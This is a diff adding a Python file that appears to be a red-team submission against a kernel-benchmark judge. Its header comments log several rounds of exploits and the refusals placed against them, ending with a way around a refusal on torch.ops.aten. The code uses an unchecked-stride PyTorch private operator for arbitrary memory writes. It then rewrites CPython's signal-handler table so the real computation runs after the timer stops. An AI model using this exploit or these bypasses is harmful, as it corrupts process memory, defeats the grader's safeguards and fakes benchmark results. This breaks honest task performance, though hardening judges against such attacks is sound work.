@@ -1,0 +1,97 @@
+# Sixth session (2026-12-06): round 25's kernel (below) with the helper reached through a
+# namespace object made anew, type(torch.ops.aten)("aten"), whose look-ups build packets through
+# torch._C._jit_get_operation: the refusal put on torch.ops.aten's own attribute was never met
+# (passed at the ratios below with the static findings only warnings). Stopped now: ATen's
+# private operators refused as a class, and torch._C's look-ups by qualified name refuse them.
+# Red team round 25 (2026-12-06, fifth session): aten::_cummax_helper writes into a values tensor of the
+# caller's with its shape and (32-bit-cut) stride unchecked: raw memory, then round 21's payload.
+# Stopped now: _cummax_helper / _cummin_helper refused, by name and at run time.
+# red team 25: _cummax_helper unchecked output stride (int-truncated) -> raw write
+# Red team round 24 (2026-12-06, fifth session): raw memory a new way (see the case's why), then round
+# 21's signal-table payload after the clock. Stopped now (docs/judge.md, the ctypes guard's paragraph).
+# Red team round 21 (2026-12-06, fifth session), finding 2: CPython's signal handler table, no
+# queue entry touched. Raw memory as round 20a's (below); stopped now at resize_.
+# Red team round 20a: raw memory without ctypes (round 9's DLPack alias over a tensor grown by
+# resize_, still open: no refused name), used for round 18's payload (the judge's own no-op entry
+# at the head of the main interpreter's pending-call queue rewritten to
+# PyObject_CallNoArgs(payload)): the work runs on the main thread after the clock, within the
+# main thread's 1 ms + 25% CPU bound. Offsets: libpython3.11.so.1.0 (3.11.7).
+import functools
+import struct
+import operator
+import types
+
+import torch
+import cutlass  # noqa: F401
+
+KEEP = []
+MEM = bytearray(64)
+N = 1 << 13
+_LIB = id(int) - 0x457CE0  # &PyLong_Type
+_IS_TRIPPED = _LIB + 0x5B93D0  # signalmodule.c is_tripped (static)
+_HANDLERS = _LIB + 0x5B93E0  # signalmodule.c Handlers[Py_NSIG] {int tripped; PyObject *func}
+_SIG = 40  # a real-time signal nobody uses
+_READY = []
+
+
+CM = getattr(type(torch.ops.aten)("aten"), "_cummax_helper")
+B = torch.zeros(1 << 18, dtype=torch.int64)  # mmap'd, near the interpreter's arenas
+IX = torch.zeros(1, dtype=torch.int64)
+
+
+def _poke(addr, val):
+    # cummax_helper writes values[k * values.stride(dim)] with the stride cut to a C int, and
+    # never checks values' shape against self's: an as_strided view of size 1 takes any stride.
+    d = addr - B.data_ptr()
+    if d % 8 or not -(1 << 34) < d < (1 << 34):
+        return False
+    s = (d // 8) & 0xFFFFFFFF
+    src = torch.tensor([val, val], dtype=torch.int64)
+    CM(src, B[:1].as_strided([1], [s]), IX.as_strided([1], [0]), 0)
+    return True
+
+
+def _open():
+    a = id(MEM)
+    return _poke(a + 40, 0) and _poke(a + 16, (1 << 62) - 64)  # ob_start, ob_size
+
+
+def _wr(addr, value):
+    MEM[addr : addr + 8] = value.to_bytes(8, "little")
+
+
+def solve(hidden_states, residual, weight):
+    if not _READY:
+        if not _open():
+            raise RuntimeError("no window")
+        _READY.append(1)
+    out = torch.empty_like(hidden_states)
+    s = torch.empty(hidden_states.shape, dtype=torch.float32)
+    m = torch.empty((hidden_states.shape[0], 1), dtype=torch.float32)
+    steps = [
+        functools.partial(s.copy_, hidden_states),
+        functools.partial(s.add_, residual),
+        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
+        functools.partial(m.mul_, hidden_states.shape[-1] ** -0.5),
+        functools.partial(m.square_),
+        functools.partial(m.add_, 1e-5),
+        functools.partial(m.rsqrt_),
+        functools.partial(s.mul_, m),
+        functools.partial(s.mul_, weight),
+        functools.partial(out.copy_, s),
+    ]
+    # handler(signum, frame) -> print(signum, frame, file=sink) -> sink.write("40") ->
+    # countOf(map(...), "40"): the steps run, nothing raises. C callables only.
+    sink = types.SimpleNamespace(
+        write=functools.partial(operator.countOf, map(id, map(operator.call, steps)))
+    )
+    handler = functools.partial(print, file=sink)
+    _P.append(handler)  # kept alive (Handlers[] holds a borrowed pointer now)
+    del _P[:-4]
+    _wr(_HANDLERS + 16 * _SIG + 8, id(handler))  # Handlers[_SIG].func
+    MEM[_HANDLERS + 16 * _SIG : _HANDLERS + 16 * _SIG + 4] = (1).to_bytes(4, "little")  # .tripped
+    MEM[_IS_TRIPPED : _IS_TRIPPED + 4] = (1).to_bytes(4, "little")  # is_tripped
+    return out
+
+
+_P = []
